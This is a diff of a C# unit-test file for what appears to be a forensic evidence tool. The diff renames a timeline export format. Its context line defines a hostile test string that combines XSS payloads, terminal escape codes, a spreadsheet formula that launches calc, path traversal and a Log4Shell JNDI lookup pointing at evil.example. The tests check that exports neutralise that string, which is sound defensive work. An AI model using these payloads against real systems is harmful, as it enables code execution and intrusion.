@@ -14,7 +14,7 @@ public sealed class HostileEvidenceTests
     private const string Hostile = "antSword/v2.1\u001b]0;title\u0007\u001b[31m\u009b31m\u202e<script>alert(1)</script>\"><img+src=x+onerror=alert(1)>'\";=cmd|'/c+calc'!A1,${jndi:ldap://evil.example}\\..\\..\\x";
 
     private static readonly string[] Exports = ["stix", "attack-flow", "misp", "navigator", "indicators", "sigma", "markdown"];
-    private static readonly string[] Timelines = ["csv", "jsonl", "timesketch", "l2t"];
+    private static readonly string[] Timelines = ["csv", "jsonl", "timesketch", "plaso-l2t"];
 
     [Fact]
     public async Task A_hostile_intruder_is_told_of_in_every_output_and_does_nothing_in_any()
@@ -61,7 +61,7 @@ public sealed class HostileEvidenceTests
         Assert.All(outputs, output =>
         {
             Assert.DoesNotContain(output.Text, c => (char.IsControl(c) && c is not ('\n' or '\r')) || (c is '\u202e'));
-            Assert.True(output.Name is "csv" or "l2t" or "timesketch" or "timeline.csv" || !output.Text.Contains("<script", StringComparison.OrdinalIgnoreCase) || IsPlainText(output.Name), output.Name);
+            Assert.True(output.Name is "csv" or "plaso-l2t" or "timesketch" or "timeline.csv" || !output.Text.Contains("<script", StringComparison.OrdinalIgnoreCase) || IsPlainText(output.Name), output.Name);
         });
         Assert.DoesNotContain("<img", outputs.First(o => o.Name == "report").Text, StringComparison.OrdinalIgnoreCase);
     }
